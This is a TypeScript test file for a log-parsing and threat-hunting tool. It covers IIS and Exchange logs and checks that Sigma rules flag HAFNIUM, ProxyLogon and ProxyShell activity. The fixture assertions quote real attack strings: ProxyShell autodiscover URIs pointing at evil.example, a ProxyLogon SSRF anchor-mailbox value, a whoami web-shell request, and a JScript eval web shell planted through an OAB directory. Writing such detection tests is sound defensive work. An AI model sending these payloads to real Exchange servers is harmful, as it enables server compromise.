import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { EvtxEvent, flattenEvtxEvent } from '../../src/evidence/event.js';
import { readW3cViews } from '../../src/evidence/w3c.js';
import { sniff } from '../../src/hunt/hunt.js';
import { ROOT, SPOOR } from '../helpers/paths.js';

// Hand-written logs in the layouts real servers write (docs/exchange-logs-artefacts.md in the shared data).
const FIX = join(ROOT, 'test/fixtures/logs');
const tmp = mkdtempSync(join(tmpdir(), 'spoor-w3c-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

function read(file: string) {
  const problems: string[] = [];
  // Rules see the views; outputs print the objects they give back, read here as rules would read those.
  const events = [...readW3cViews(file, (line, m) => problems.push(`${line}: ${m}`))].map((v) => new EvtxEvent(v.toRaw()));
  return { events, problems };
}

test('IIS: fields by the #Fields in force (changed mid-file), times in UTC, + kept in user agents, unencoded spaces joined, a short line reported', () => {
  const file = join(FIX, 'iis-u_ex210303.log');
  assert.equal(sniff(file), 'w3c');
  const { events, problems } = read(file);
  assert.equal(events.length, 5);
  const [first, second, third, fourth, fifth] = events;
  assert.equal(first!.get('Channel'), 'IIS');
  assert.equal(first!.get('TimeCreated_SystemTime'), '2021-03-03T00:00:01.000Z');
  assert.equal(first!.get('cs-username'), 'CORP\\alice');
  assert.equal(first!.get('RequestUri'), '/owa/');
  assert.equal(first!.get('EventRecordID'), 5, 'record id = line number (after the BOM and four directives)');
  assert.equal(second!.get('cs(User-Agent)'), 'Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)');
  assert.equal(second!.get('sc-status'), '200');
  // A line written with spaces inside the user agent: the surplus words are the agent's.
  assert.equal(third!.get('cs(User-Agent)'), 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36');
  assert.equal(third!.get('cs(Referer)'), '-');
  assert.equal(third!.get('RequestUri'), '/aspnet_client/discover.aspx?cmd=whoami');
  // The second header: other fields, in another order, with the server's name.
  assert.equal(fourth!.get('cs(Cookie)'), 'X-BEResource=localhost~1942062522');
  assert.equal(fourth!.get('s-ip'), undefined);
  assert.equal(fourth!.get('Computer'), 'EXCH01');
  assert.equal(fourth!.get('EventRecordID'), 12);
  assert.equal(fifth!.get('RequestUri'), '/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example');
  assert.equal(fifth!.get('sc-status'), undefined, 'a cut-short line keeps what it has');
  assert.deepEqual(problems, ['13: 7 values for 10 fields (line cut short?)']);
});

test('Exchange HttpProxy: CSV quoting (commas, doubled quotes, a value over two lines), empty fields, the query joined to the path, a truncated last line', () => {
  const file = join(FIX, 'httpproxy-HttpProxy_2021030302-1.LOG');
  assert.equal(sniff(file), 'w3c');
  const { events, problems } = read(file);
  assert.equal(events.length, 4);
  const [ssrf, owa, shell, cut] = events;
  assert.equal(ssrf!.get('Channel'), 'HttpProxy Logs');
  assert.equal(ssrf!.get('Provider_Name'), 'Microsoft Exchange Server');
  assert.equal(ssrf!.get('AuthenticatedUser'), '');
  assert.equal(ssrf!.get('AnchorMailbox'), 'ServerInfo~EXCH01.corp.example/ecp/proxyLogon.ecp?#');
  assert.equal(ssrf!.get('GenericInfo'), 'BeginRequest=2021-03-03T02:10:44.000Z;Note="a, b";');
  assert.equal(ssrf!.get('TimeCreated_SystemTime'), '2021-03-03T02:10:44.100Z');
  assert.equal(ssrf!.get('Computer'), 'EXCH01');
  assert.equal(owa!.get('UserAgent'), 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)');
  assert.equal(owa!.get('GenericInfo'), 'first line\nsecond line');
  assert.equal(owa!.get('RequestUri'), '/owa/service.svc?action=GetItem&app=Mail');
  assert.equal(shell!.get('EventRecordID'), 9, 'the line after a two-line value is numbered as the file has it');
  assert.equal(shell!.get('RequestUri'), '/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5k&Email=autodiscover/autodiscover.json%3F@evil.example');
  assert.equal(cut!.get('UrlStem'), '/owa/');
  assert.deepEqual(problems, ['10: 4 values for 13 fields (line cut short?)']);
});

test('Exchange ECP server log: EventData with quoted script survives', () => {
  const { events, problems } = read(join(FIX, 'ecp-ECPServer20210303-1.LOG'));
  assert.deepEqual(problems, []);
  assert.equal(events.length, 2);
  assert.equal(events[0]!.get('Channel'), 'ECP Server Log');
  assert.match(String(events[0]!.get('EventData')), /S:CMD=Set-OabVirtualDirectory\.ExternalUrl=http:\/\/f\/<script language="JScript" runat="server">function Page_Load\(\)\{eval\(Request\["orange"\],"unsafe"\);\}<\/script>/);
  assert.equal(events[1]!.get('EventData'), 'S:TIME=13;S:CMD=Get-InboxRule;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList');
});

test('hostile lines: an over-long line is skipped and reported, data before any #Fields is reported, the rest is read', () => {
  const file = join(tmp, 'long.log');
  writeFileSync(file, `#Version: 1.0\nstray data line\n#Fields: date time cs-uri-stem\n2021-03-03 00:00:01 /a\n2021-03-03 00:00:02 /${'x'.repeat(2 * 1024 * 1024)}\n2021-03-03 00:00:03 /c\n`);
  const { events, problems } = read(file);
  assert.deepEqual(events.map((e) => e.get('cs-uri-stem')), ['/a', '/c']);
  assert.equal(problems.length, 2);
  assert.match(problems[0]!, /^2: a data line before any #Fields/);
  assert.match(problems[1]!, /^5: line longer than/);
});

test("Sigma web rules run on IIS and HttpProxy logs through the pipeline's field names (SigmaHQ's HAFNIUM and ProxyShell rules)", () => {
  const r = spawnSync(process.execPath, [SPOOR, 'hunt', FIX, '--format', 'jsonl', '--rules', join(ROOT, 'rules/exchange'), '--rules', `${ROOT}/../shared/data/sigma/rules-emerging-threats/2021`], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const found = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { rule: { title: string; id: string }; file: string; record_id: string });
  const where = (id: string) => found.filter((d) => d.rule.id === id).map((d) => `${d.file.split('/').pop()}:${d.record_id}`).sort();
  // SigmaHQ: Exchange Exploitation Used by HAFNIUM (POST to /owa/auth/Current/ with a crawler's user agent; POST /ecp/*.js).
  assert.deepEqual(where('67bce556-312f-4c81-9162-c3c9ff2599b2'), ['httpproxy-HttpProxy_2021030302-1.LOG:6', 'iis-u_ex210303.log:12', 'iis-u_ex210303.log:6']);
  const titles = new Set(found.map((d) => d.rule.title));
  assert.ok(titles.has('ProxyLogon Request Forgery - ServerInfo Anchor Mailbox Without A User (CVE-2021-26855)'));
  assert.ok(titles.has('ProxyShell Autodiscover Path Confusion (CVE-2021-34473)'));
  assert.ok(titles.has('ProxyLogon Web Shell Planted Through An OAB Virtual Directory (CVE-2021-27065)'));
});

test('a line\'s event view (what rules see) gives what the evtx_dump-shaped object it prints gives, field by field (fixtures and a generated server)', () => {
  const dir = join(tmp, 'server');
  const g = spawnSync(process.execPath, [SPOOR, 'demo', 'generate', dir, '--size', '2MB', '--intrusion', 'proxylogon,proxyshell,proxynotshell'], { encoding: 'utf8' });
  assert.equal(g.status, 0, g.stderr);
  const logs = spawnSync('find', [FIX, dir, '-type', 'f', '(', '-name', '*.log', '-o', '-name', '*.LOG', ')'], { encoding: 'utf8' }).stdout.trim().split('\n');
  let compared = 0;
  for (const file of logs) {
    const views = [...readW3cViews(file, () => {})];
    const raw = views.map((v) => v.toRaw());
    views.forEach((view, i) => {
      const oracle = new EvtxEvent(raw[i]);
      const names = new Set([...flattenEvtxEvent(raw[i]).keys(), 'RequestUri', 'EventID', 'NoSuchField']);
      for (const name of names) assert.deepEqual(view.get(name), oracle.get(name), `${file}:${i} ${name}`);
      assert.deepEqual([...new Set(view.values())].sort(), [...new Set(oracle.values())].sort(), `${file}:${i} values`);
      compared++;
    });
  }
  assert.ok(compared > 5000, `${compared} lines compared`);
});

test('hostile logs: random directives, quotes, separators and bytes never throw, hang or lose the count of lines', async () => {
  const fc = (await import('fast-check')).default;
  const piece = fc.oneof(
    fc.constantFrom('#Fields: date time cs-uri-stem cs(User-Agent)\n', '#Fields: DateTime,UrlStem,AnchorMailbox\n', '#Software: Microsoft Exchange Server\n', '#Log-type: HttpProxy Logs\n', '#Fields:\n', '#\n', '\n', '\r\n', '"', '""', ',', ' ', '\uFEFF', 'ServerInfo~x/y', 'autodiscover.json?@'),
    fc.string({ maxLength: 40 }),
    fc.uint8Array({ maxLength: 30 }).map((b) => Buffer.from(b).toString('latin1')),
  );
  let n = 0;
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const file = join(tmp, `fuzz-${n++ % 4}.log`);
      writeFileSync(file, pieces.join(''));
      let skipped = 0;
      const all = [...readW3cViews(file, () => {})];
      const some = [...readW3cViews(file, () => {}, { filterFor: () => ({ hits: () => [] }), onSkipped: () => skipped++ })];
      // Passing every line over loses none of them from the count.
      assert.equal(some.length, 0);
      assert.ok(skipped <= all.length + pieces.length);
    }),
    { numRuns: 400 },
  );
});

test('a quote left open over half a million short lines is cut at 1 MiB and reported; the lines after it are still read', () => {
  const file = join(tmp, 'open-quote.log');
  writeFileSync(file, `#Fields: a,b\n1,"open\n${'x\n'.repeat(600_000)}2,b\n`);
  const { events, problems } = read(file);
  assert.match(problems[0]!, /^2: a quoted value runs past 1048576 characters; skipped to line \d+/);
  assert.deepEqual(events.at(-1)!.get('a'), '2');
  assert.deepEqual(events.at(-1)!.get('b'), 'b');
});
